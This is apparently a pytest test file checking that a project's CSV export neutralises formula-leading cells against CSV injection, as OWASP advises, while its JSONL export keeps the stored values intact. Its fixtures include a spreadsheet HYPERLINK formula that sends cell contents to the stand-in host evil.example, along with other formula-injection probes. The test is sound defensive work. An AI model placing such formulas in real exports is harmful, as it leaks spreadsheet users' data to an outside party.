"""CSV exports neutralise formula-leading cells (OWASP's rule against CSV injection):
a text cell beginning with =, +, -, @, a tab or a carriage return is written with a leading '."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from sentret_core.annotation.csv_export import safe_cell
from sentret_core.annotation.records import ADMIN_TOKEN_ENV, JUDGMENT_FIELDS, PoolItem, PoolSettings
from sentret_core.annotation.store import JudgmentStore

TOKEN = "csv-admin-token"
QUERY = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ENTITY = "+1"
NAME = "@SUM(A1:A9)"
NOTE = "-2"
TITLE = "\tcmd"
TEXT = "\r=1+1"


def test_safe_cell_prefixes_exactly_the_formula_starts() -> None:
    for hostile in ("=1", "+1", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(hostile) == "'" + hostile
    for harmless in ("", "alice", "1-2", "a=b", " =1", "'quoted", 4, None, -2):
        assert safe_cell(harmless) == harmless  # numbers stay numbers (grades, ids are never negative)


def test_a_judgments_csv_export_opens_as_text_in_a_spreadsheet(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(ADMIN_TOKEN_ENV, TOKEN)
    with JudgmentStore(tmp_path / "csv.sqlite") as store:
        store.create_session("s", "/idx", [PoolItem(QUERY, ENTITY, 7, TEXT, TITLE)], PoolSettings())
        admin = store.admin(TOKEN)
        secret = admin.add_annotator("s", NAME)
        store.sign_in_with_token("s", secret.token).grade(1, 3, note=NOTE)
        exported = admin.export_csv("s")
        jsonl = admin.export_jsonl("s")
    [header, row] = list(csv.reader(io.StringIO(exported, newline="")))
    assert tuple(header) == JUDGMENT_FIELDS
    cells = dict(zip(header, row))
    assert cells["query"] == "'" + QUERY  # today: =HYPERLINK(…) as it is, a live formula
    assert cells["entity"] == "'+1"
    assert cells["annotator"] == "'@SUM(A1:A9)"
    assert cells["note"] == "'-2"
    assert cells["title"] == "'\tcmd"
    assert cells["text"] == "'\r=1+1"
    assert cells["grade"] == "3" and cells["sentence_id"] == "7"  # numbers untouched
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    # sentret imports qrels and JSONL, not CSV: the JSONL export keeps every value exactly as stored
    # (and re-imports, tests/annotation/test_store.py), and removing the one added ' gives the CSV's values back
    [stored] = [json.loads(line) for line in jsonl.splitlines()]
    assert (stored["query"], stored["entity"], stored["annotator"], stored["note"]) == (QUERY, ENTITY, NAME, NOTE)
    unquoted = {k: v[1:] if v.startswith("'") else v for k, v in cells.items()}
    assert unquoted == {k: "" if v is None else str(v) for k, v in stored.items()}  # None: an empty cell
